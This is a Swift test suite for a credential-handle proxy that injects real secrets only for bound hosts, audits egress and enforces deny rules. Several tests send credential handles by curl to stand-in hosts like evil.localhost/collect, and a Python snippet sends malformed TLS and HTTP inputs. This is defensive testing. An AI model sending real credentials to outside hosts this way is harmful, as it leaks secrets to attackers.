import Foundation
import KontextAudit
import KontextCore
import KontextHostBindings
import KontextPolicy
import KontextTestSupport
import Testing
@testable import KontextProxy

/// The credential proxy against a real loopback HTTPS server (Python, test CA) with the real
/// curl as the client: the server sees the credential, the client only ever holds the handle.
@Suite(.serialized) struct ProxyTests {
    static let secret = TestSupport.secret("proxy-github")

    @Test func aBoundHostGetsTheCredentialInPlaceOfTheHandle() async throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let fixture = try await ProxyFixture(ca: ca, credentials: ["github": LiveCredential(value: Self.secret, expiresIn: nil)])
        let handle = fixture.handles.handles["github"]!
        #expect(handle.hasPrefix("kxh_") && handle.count >= 36)

        // Bearer, and two requests on one kept-alive connection.
        let url = "https://api.github.localhost:\(upstream.port)/user?per_page=1"
        let result = try await fixture.curl(["-H", "Authorization: Bearer \(handle)", url, url])
        #expect(result.status == 0, "curl: \(result.stderr)")
        #expect(result.stdout == #"{"ok": true}{"ok": true}"#)
        // git's Basic `x-access-token:HANDLE`.
        let basic = try await fixture.curl(["-u", "x-access-token:\(handle)", "https://api.github.localhost:\(upstream.port)/org/repo.git/info/refs"])
        #expect(basic.status == 0, "curl: \(basic.stderr)")

        let seen = upstream.requests()
        #expect(seen.count == 3)
        #expect(seen.prefix(2).allSatisfy { $0["authorization_sha256"] as? String == sha256("Bearer \(Self.secret)") })
        let expectedBasic = "Basic " + Data("x-access-token:\(Self.secret)".utf8).base64EncodedString()
        #expect(seen.last?["authorization_sha256"] as? String == sha256(expectedBasic))
        #expect(seen.first?["path"] as? String == "/user?per_page=1")

        let events = try await fixture.egressEvents(atLeast: 3)
        #expect(events.count == 3)
        let first = try #require(events.first)
        #expect(first.toolName == "github")
        #expect(first.toolInput == .object([("method", .string("GET")), ("host", .string("api.github.localhost")), ("path", .string("/user"))]))
        #expect(first.toolResponse == .object([("status", .number(200)), ("bytes", .number(12))]))
        #expect(first.decision == AuditDecision(outcome: .allow, enforced: true))
        await fixture.stop()
        // Neither the credential nor the handle is in anything the proxy wrote.
        #expect(TestSupport.files(under: fixture.directory, containing: Self.secret).isEmpty)
        #expect(TestSupport.files(under: fixture.directory, containing: handle).isEmpty)
        #expect(!fixture.logLines.joined().contains(Self.secret))
    }

    @Test func aHandleTowardAnotherServicesHostIsRefusedAndAudited() async throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let fixture = try await ProxyFixture(ca: ca, credentials: ["github": LiveCredential(value: Self.secret, expiresIn: nil)])
        let handle = fixture.handles.handles["github"]!

        let evil = try await fixture.curl(["-w", "%{http_code}", "-o", "/dev/null", "-H", "Authorization: Bearer \(handle)",
                                     "https://evil.localhost:\(upstream.port)/collect"])
        #expect(evil.stdout == "403", "curl: \(evil.stderr)")
        // In a header the binding names, and in plain HTTP to a host nobody bound.
        let header = try await fixture.curl(["-w", "%{http_code}", "-o", "/dev/null", "-H", "X-Api-Key: \(handle)",
                                       "https://evil.localhost:\(upstream.port)/collect"])
        #expect(header.stdout == "403")
        let plain = try await fixture.curl(["-w", "%{http_code}", "-o", "/dev/null", "-H", "Authorization: token \(handle)",
                                      "http://plain.localhost:\(upstream.port)/"])
        #expect(plain.stdout == "403")
        #expect(upstream.requests().isEmpty, "the upstream received: \(upstream.requests())")

        let events = try await fixture.egressEvents(atLeast: 3)
        #expect(events.count == 3)
        for event in events {
            #expect(event.toolName == "github")
            #expect(event.decision?.rule == "builtin:handle-misuse")
            #expect(event.decision?.outcome == .deny)
            #expect(event.toolResponse == .object([("status", .number(403)), ("bytes", .number(0))]))
        }
        #expect(fixture.logLines.filter { $0.contains("refused") }.count == 3)
        await fixture.stop()
    }

    /// hosts.toml's `inspect = "all"`: the proxy decrypts every named host, so a handle on its
    /// way to a host nobody bound is refused and audited too; other traffic there still flows.
    @Test func withEveryHostInspectedAHandleTowardAnUnboundHostIsRefused() async throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let fixture = try await ProxyFixture(ca: ca, credentials: ["github": LiveCredential(value: Self.secret, expiresIn: nil)],
                                             inspection: .all)
        let handle = fixture.handles.handles["github"]!
        let stolen = try await fixture.curl(["-w", "\n%{http_code}", "-H", "Authorization: Bearer \(handle)",
                                             "https://unbound.localhost:\(upstream.port)/collect"])
        #expect(stolen.stdout.hasSuffix("\n403"), "curl: \(stolen.stdout) \(stolen.stderr)")
        #expect(stolen.stdout.contains("a github handle was sent to unbound.localhost, which is not bound to github"))
        #expect(upstream.requests().isEmpty, "the upstream received: \(upstream.requests())")
        // Without a handle the request goes through, decrypted and sent on over verified TLS,
        // headers untouched and unrecorded (only bound hosts' requests are egress events).
        let plain = try await fixture.curl(["-w", "\n%{http_code}", "-H", "Authorization: Bearer not-a-handle",
                                            "https://unbound.localhost:\(upstream.port)/fine"])
        #expect(plain.stdout.hasSuffix("\n200"), "curl: \(plain.stdout) \(plain.stderr)")
        #expect(upstream.requests().map { $0["authorization_sha256"] as? String } == [sha256("Bearer not-a-handle")])

        let events = try await fixture.egressEvents(atLeast: 1)
        #expect(events.count == 1)
        #expect(events.first?.toolName == "github")
        #expect(events.first?.decision?.rule == "builtin:handle-misuse")
        #expect(events.first?.toolInput["host"]?.stringValue == "unbound.localhost")
        await fixture.stop()
    }

    @Test func hostsFileInspectKey() throws {
        let file = try HostBindings.parse(bytes: Array("inspect = \"all\"\n[[service]]\nname = \"x\"\nhosts = [\"x.test\"]\n".utf8),
                                          path: "hosts.toml")
        #expect(file.inspection == .all)
        #expect(file.bindings.map(\.service) == ["x"])
        #expect(try HostBindings.parse(bytes: Array("".utf8), path: "hosts.toml").inspection == nil)
        #expect(HostBindings.builtIn.inspection == .bound)
        #expect(throws: KontextError.self) { try HostBindings.parse(bytes: Array("inspect = \"everything\"\n".utf8), path: "hosts.toml") }
    }

    @Test func unboundHostsAreTunnelledBlind() async throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let fixture = try await ProxyFixture(ca: ca, credentials: ["github": LiveCredential(value: Self.secret, expiresIn: nil)])
        // Trusting only the test CA: the certificate is the server's own, not the session CA's.
        let result = try await ProxyFixture.run("/usr/bin/curl", [
            "--silent", "--show-error", "--proxy", fixture.proxy.url, "--cacert", ca.caFile,
            "-H", "Authorization: Bearer not-a-handle", "https://localhost:\(upstream.port)/blind"])
        #expect(result.status == 0, "curl: \(result.stderr)")
        #expect(upstream.requests().first?["authorization_sha256"] as? String == sha256("Bearer not-a-handle"))
        // A bound host's certificate is the session CA's: with only the test CA curl refuses it.
        let intercepted = try await ProxyFixture.run("/usr/bin/curl", [
            "--silent", "--proxy", fixture.proxy.url, "--cacert", ca.caFile, "https://api.github.localhost:\(upstream.port)/"])
        #expect(intercepted.status == 60)  // peer certificate not trusted
        // The tunnel left no record; the refused handshake with a bound host did.
        let events = try await fixture.egressEvents(atLeast: 1)
        #expect(events.count == 1)
        #expect(events.first?.toolResponse["error"]?.stringValue?.contains("TLS") == true)
        await fixture.stop()
    }

    @Test(arguments: [PolicyMode.enforce, .observe])
    func anEgressRuleDeniesInEnforceModeAndIsRecordedInObserveMode(mode: PolicyMode) async throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let policy = """
            [[rule]]
            id = "no-repo-deletes"
            event = "egress"
            method = "DELETE"
            path = "/repos/*"
            decision = "deny"
            reason = "agents do not delete repositories"
            """
        let fixture = try await ProxyFixture(ca: ca, credentials: ["github": LiveCredential(value: Self.secret, expiresIn: nil)],
                                             policy: policy, mode: mode)
        let handle = fixture.handles.handles["github"]!
        let result = try await fixture.curl(["-X", "DELETE", "-w", "\n%{http_code}", "-H", "Authorization: Bearer \(handle)",
                                       "https://api.github.localhost:\(upstream.port)/repos/acme/app"])
        let allowed = try await fixture.curl(["-w", "\n%{http_code}", "-H", "Authorization: Bearer \(handle)",
                                        "https://api.github.localhost:\(upstream.port)/repos/acme/app"])
        #expect(allowed.stdout.hasSuffix("\n200"))
        let events = try await fixture.egressEvents(atLeast: 2)
        let denied = try #require(events.first)
        #expect(denied.decision == AuditDecision(outcome: .deny, reason: "agents do not delete repositories",
                                                 rule: "user:no-repo-deletes", enforced: mode == .enforce))
        if mode == .enforce {
            #expect(result.stdout.hasSuffix("\n403"))
            #expect(result.stdout.contains("user:no-repo-deletes"))
            #expect(upstream.requests().map { $0["method"] as? String } == ["GET"])
        } else {
            #expect(result.stdout.hasSuffix("\n200"))
            #expect(upstream.requests().map { $0["method"] as? String } == ["DELETE", "GET"])
            #expect(denied.toolResponse == .object([("status", .number(200)), ("bytes", .number(12))]))
        }
        #expect(events.last?.decision == AuditDecision(outcome: .allow, enforced: mode == .enforce))
        await fixture.stop()
    }

    @Test func aCredentialIsRenewedBeforeItExpiresAndAFailedRenewalIsA502() async throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let renewals = Counter()
        let fixture = try await ProxyFixture(
            ca: ca, credentials: ["github": LiveCredential(value: Self.secret + "-0", expiresIn: 2)],
            renew: { service in
                let count = renewals.increment()
                if count == 2 { throw FixtureError("token service unreachable") }
                return LiveCredential(value: Self.secret + "-\(count)", expiresIn: 2)
            })
        let handle = fixture.handles.handles["github"]!
        let url = "https://api.github.localhost:\(upstream.port)/user"
        func get() async throws -> String {
            try await fixture.curl(["-w", "\n%{http_code}", "-H", "Authorization: Bearer \(handle)", url]).stdout
        }
        #expect(try await get().hasSuffix("\n200"))
        try await Task.sleep(for: .milliseconds(2100))
        #expect(try await get().hasSuffix("\n200"))  // renewed: -1
        try await Task.sleep(for: .milliseconds(2100))
        let failed = try await get()  // renewal fails
        #expect(failed.hasSuffix("\n502"))
        #expect(failed.contains("could not renew the github credential"))
        #expect(try await get().hasSuffix("\n200"))  // the next request tries again: -3
        let tokens = upstream.requests().compactMap { $0["authorization_sha256"] as? String }
        #expect(tokens == ["0", "1", "3"].map { sha256("Bearer \(Self.secret)-\($0)") })
        let events = try await fixture.egressEvents(atLeast: 4)
        #expect(events.map { $0.toolResponse["status"] } == [.number(200), .number(200), .number(502), .number(200)])
        #expect(events[2].toolResponse["error"]?.stringValue?.contains("could not renew") == true)
        #expect(!fixture.logLines.joined().contains(Self.secret))
        await fixture.stop()
    }

    @Test func badInputIsOneLogLineAndTheProxyKeepsServing() async throws {
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let fixture = try await ProxyFixture(ca: ca, credentials: ["github": LiveCredential(value: Self.secret, expiresIn: nil)])
        let handle = fixture.handles.handles["github"]!
        let script = """
            import socket, ssl, sys
            port, upstream, ca, case = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
            s = socket.create_connection(("127.0.0.1", port))
            if case == "garbage":
                s.sendall(b"\\x16\\x03\\x01 this is not HTTP\\r\\n\\r\\n")
                print(s.recv(100).split(b"\\r\\n")[0].decode())
                sys.exit(0)
            s.sendall(("CONNECT api.github.localhost:%s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % upstream).encode())
            print(s.recv(200).split(b"\\r\\n")[0].decode())
            context = ssl.create_default_context(cafile=ca)
            if case == "other-name":
                context.check_hostname = False
                try:
                    t = context.wrap_socket(s, server_hostname="evil.localhost")
                    t.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
                    print("answered", t.recv(100))
                except (ssl.SSLError, OSError) as e:
                    print("refused")
                sys.exit(0)
            t = context.wrap_socket(s, server_hostname="api.github.localhost")
            t.sendall(b"POST /upload HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 10000000\\r\\n\\r\\n" + b"x" * 100000)
            t.close()
            print("gone")
            """
        func client(_ which: String) async throws -> String {
            try await ProxyFixture.run("/usr/bin/env", ["python3", "-c", script, String(fixture.proxy.port), String(upstream.port),
                                                        fixture.bundle, which]).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        }
        #expect(try await client("garbage") == "HTTP/1.1 400 Bad Request")
        #expect(try await client("other-name").hasSuffix("refused"))
        #expect(try await client("mid-body").hasSuffix("gone"))
        let reset = try await fixture.curl(["-w", "\n%{http_code}", "-H", "Authorization: Bearer \(handle)",
                                      "https://api.github.localhost:\(upstream.port)/reset"])
        #expect(reset.stdout.hasSuffix("\n502"), "\(reset.stdout) \(reset.stderr)")
        // Still serving.
        let fine = try await fixture.curl(["-w", "\n%{http_code}", "-H", "Authorization: Bearer \(handle)",
                                     "https://api.github.localhost:\(upstream.port)/user"])
        #expect(fine.stdout.hasSuffix("\n200"))
        try await Task.sleep(for: .milliseconds(300))
        let lines = fixture.logLines
        #expect(lines.count == 4, "log lines: \(lines)")
        #expect(lines.contains { $0.hasPrefix("client:") })
        #expect(lines.contains { $0.contains("TLS client hello for evil.localhost inside CONNECT to api.github.localhost") })
        #expect(lines.contains { $0.contains("POST api.github.localhost/upload: the client closed the connection in the middle of the request") })
        #expect(lines.contains { $0.contains("GET api.github.localhost/reset: api.github.localhost closed the connection") })
        let events = try await fixture.egressEvents(atLeast: 4)
        #expect(events.filter { $0.toolResponse["error"] != nil }.count == 3)
        await fixture.stop()
    }
}

final class Counter: @unchecked Sendable {
    private let lock = NSLock()
    private var value = 0
    func increment() -> Int { lock.withLock { value += 1; return value } }
}
